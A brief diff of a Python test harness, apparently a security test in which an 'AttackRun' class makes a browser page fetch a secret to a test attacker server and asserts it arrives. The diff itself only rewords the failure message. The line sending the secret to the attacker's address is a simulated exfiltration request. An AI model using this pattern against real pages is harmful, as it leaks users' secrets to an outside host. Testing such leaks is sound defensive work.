@@ -288,7 +288,9 @@ class AttackRun:
             page.goto(f"{self.place.host.address}{BARE}")
         start = time.monotonic()
         _ask(page, "address => void fetch(address)", f"{self.attacker.address}/{secret}")
-        assert self.attacker.heard.wait_for([secret], PATIENCE), "the attacker hears nothing at all"
+        assert self.attacker.heard.wait_for([secret], PATIENCE), (
+            "the attacker's server did not receive the test request"
+        )
         return max(1.0, (time.monotonic() - start) / QUIET_KNOCK)
 
 
